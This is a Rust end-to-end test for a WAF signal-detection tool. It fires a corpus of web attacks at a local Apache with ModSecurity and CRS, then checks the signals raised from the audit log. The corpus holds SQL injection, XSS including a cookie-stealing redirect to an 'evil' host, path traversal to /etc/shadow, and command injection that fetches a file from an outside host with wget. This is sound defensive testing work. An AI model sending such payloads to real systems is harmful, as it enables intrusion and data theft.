//! End to end with real components: Debian's Apache 2.4 + ModSecurity 2.9 + OWASP CRS, started by
//! the test with its own config (loopback only, `mod_remoteip` so the test picks client IPs through
//! `X-Forwarded-For`, a JSON audit log of every transaction), a corpus of attacks from one client and
//! benign traffic from another, then `sigscope ingest --format modsecurity` of the audit log, twice.
use sigscope::model::Signal;
use sigscope::store::{SqliteStore, Store};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const ATTACKER: &str = "203.0.113.66";
const BENIGN: &str = "198.51.100.20";

struct Apache(Child);

impl Drop for Apache {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn need(p: &str) -> PathBuf {
    let path = PathBuf::from(p);
    assert!(
        path.exists(),
        "{p} is missing: install apache2, libapache2-mod-security2 and modsecurity-crs (.ci/run does)"
    );
    path
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn start_apache(dir: &Path, port: u16) -> Apache {
    let bin = need("/usr/sbin/apache2");
    let m = "/usr/lib/apache2/modules";
    for f in [
        "mod_security2.so",
        "mod_remoteip.so",
        "mod_unique_id.so",
        "mod_mpm_event.so",
    ] {
        need(&format!("{m}/{f}"));
    }
    need("/usr/share/modsecurity-crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf");
    need("/etc/modsecurity/crs/crs-setup.conf");
    std::fs::create_dir_all(dir.join("htdocs")).unwrap();
    std::fs::create_dir_all(dir.join("data")).unwrap();
    std::fs::write(dir.join("htdocs/index.html"), "hello\n").unwrap();
    let d = dir.display();
    let conf = format!(
        r#"ServerRoot {d}
PidFile {d}/httpd.pid
ErrorLog {d}/error.log
LogLevel warn
Listen 127.0.0.1:{port}
ServerName localhost
LoadModule mpm_event_module {m}/mod_mpm_event.so
LoadModule authz_core_module {m}/mod_authz_core.so
LoadModule unique_id_module {m}/mod_unique_id.so
LoadModule remoteip_module {m}/mod_remoteip.so
LoadModule security2_module {m}/mod_security2.so
DocumentRoot {d}/htdocs
RemoteIPHeader X-Forwarded-For
RemoteIPInternalProxy 127.0.0.1
SecRuleEngine On
SecRequestBodyAccess On
SecAuditEngine On
SecAuditLogParts ABCFHZ
SecAuditLogType Serial
SecAuditLogFormat JSON
SecAuditLog {d}/audit.log
SecDataDir {d}/data
SecTmpDir {d}/data
Include /etc/modsecurity/crs/crs-setup.conf
Include /usr/share/modsecurity-crs/rules/*.conf
"#
    );
    std::fs::write(dir.join("httpd.conf"), conf).unwrap();
    let child = Command::new(bin)
        .arg("-f")
        .arg(dir.join("httpd.conf"))
        .arg("-DFOREGROUND")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("apache2 starts");
    let apache = Apache(child);
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            Instant::now() < deadline,
            "apache did not listen: {}",
            std::fs::read_to_string(dir.join("error.log")).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    apache
}

fn sigscope(dir: &Path, args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_sigscope"))
        .arg("--store")
        .arg(dir.join("signals.db"))
        .arg("--config")
        .arg(dir.join("config.toml"))
        .args(args)
        .env("SIGSCOPE_USER", "detect@example.com")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn apache_modsecurity_crs_audit_log_raises_a_signal_per_family_for_the_attacker_only() {
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let apache = start_apache(dir.path(), port);
    let c = reqwest::blocking::Client::new();
    let base = format!("http://127.0.0.1:{port}");
    let mut sent = 0;
    let mut get = |ip: &str, ua: &str, path: &str| {
        let r = c
            .get(format!("{base}{path}"))
            .header("Host", "shop.example.com")
            .header("X-Forwarded-For", ip)
            .header("User-Agent", ua)
            .send()
            .unwrap();
        sent += 1;
        r.status().as_u16()
    };
    let firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let attacks = [
        "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/products?id=1%20OR%201=1",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/search?q=%3Csvg/onload=alert(1)%3E",
        "/profile?name=%3Cscript%3Edocument.location=%27http://evil/%27%3C/script%3E",
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2F..%2F..%2Fetc%2Fshadow",
        "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
        "/ping?host=8.8.8.8%3Bwget%20http://203.0.113.9/x%20-O%20/tmp/x",
    ];
    for a in attacks {
        assert_eq!(get(ATTACKER, firefox, a), 403, "CRS blocks {a}");
    }
    for i in 0..12 {
        let ua = [
            "Nikto/2.1.6",
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "gobuster/3.6",
            "dirbuster",
        ][i % 4];
        get(ATTACKER, ua, &format!("/admin{i}"));
    }
    for p in [
        "/",
        "/index.html",
        "/products?id=42",
        "/search?q=running+shoes",
        "/profile?name=Jane",
    ] {
        for _ in 0..2 {
            let st = get(BENIGN, firefox, p);
            assert_ne!(st, 403, "benign {p} passes");
        }
    }
    let log = dir.path().join("audit.log");
    // ModSecurity writes a transaction's audit record in the logging phase, after the answer has
    // gone out: wait for the last one before stopping Apache (killing it at once can lose it).
    let count = || {
        std::fs::read_to_string(&log)
            .map(|t| t.lines().count())
            .unwrap_or(0)
    };
    let waited = std::time::Instant::now();
    while count() < sent && waited.elapsed() < std::time::Duration::from_secs(10) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    drop(apache);
    let lines = count();
    assert_eq!(lines, sent, "SecAuditEngine On logs every transaction");

    let out = sigscope(
        dir.path(),
        &["ingest", "--format", "modsecurity", log.to_str().unwrap()],
    );
    assert!(
        out.contains(&format!("{sent} events read, 22 attacks, "))
            && out.contains(", 0 lines skipped"),
        "{out}"
    );
    let store = SqliteStore::open(&dir.path().join("signals.db")).unwrap();
    let mut signals: Vec<Signal> = Vec::new();
    store
        .for_each_signal(&mut |s| {
            signals.push(s.clone());
            Ok(())
        })
        .unwrap();
    for (family, rule) in [
        ("sql_injection", "waf-sqli-001"),
        ("xss", "appsec-xss-001"),
        ("lfi", "appsec-lfi-001"),
        ("command_injection", "appsec-cmdi-001"),
        ("security_scanner", "appsec-scan-001"),
    ] {
        let s = signals
            .iter()
            .find(|s| s.rule.id == rule)
            .unwrap_or_else(|| {
                panic!(
                    "a {family} signal ({rule}) among {:?}",
                    signals.iter().map(|s| &s.rule.id).collect::<Vec<_>>()
                )
            });
        assert_eq!(s.attacker_ips, vec![ATTACKER], "{rule}");
        assert!(
            s.attack_types.contains(&family.to_string()),
            "{rule}: {:?}",
            s.attack_types
        );
        assert!(!s.samples.is_empty(), "{rule} has samples");
        for smp in &s.samples {
            assert_eq!(smp.ip.as_deref(), Some(ATTACKER));
            assert_eq!(smp.method.as_deref(), Some("GET"));
            assert_eq!(smp.status_code, Some(403));
            assert_eq!(smp.blocked, Some(true));
            let url = smp.url.as_deref().unwrap();
            assert!(
                attacks.contains(&url) || url.starts_with("/admin"),
                "{rule}: a real request: {url}"
            );
            assert!(
                smp.waf_rule_id.is_some() && smp.payload_location.is_some(),
                "{smp:?}"
            );
        }
        assert_eq!(s.rule.rule_type, "Application Security");
        assert_eq!(s.services, vec!["shop.example.com"]);
    }
    let xss = signals
        .iter()
        .find(|s| s.rule.id == "appsec-xss-001")
        .unwrap();
    assert_eq!(xss.events_matched, Some(4), "a > 3: the four XSS requests");
    let scan = signals
        .iter()
        .find(|s| s.rule.id == "appsec-scan-001")
        .unwrap();
    assert_eq!(scan.events_matched, Some(12));
    assert!(scan
        .samples
        .iter()
        .any(|s| s.user_agent.as_deref() == Some("Nikto/2.1.6")));
    assert!(
        signals
            .iter()
            .all(|s| !s.attacker_ips.iter().any(|ip| ip == BENIGN)),
        "nothing for the benign client"
    );

    let again = sigscope(
        dir.path(),
        &["ingest", "--format", "modsecurity", log.to_str().unwrap()],
    );
    assert!(again.contains("0 signals created, 0 updated"), "{again}");
    let mut n = 0;
    store
        .for_each_signal(&mut |_| {
            n += 1;
            Ok(())
        })
        .unwrap();
    assert_eq!(n, signals.len(), "the second ingest adds nothing");
}
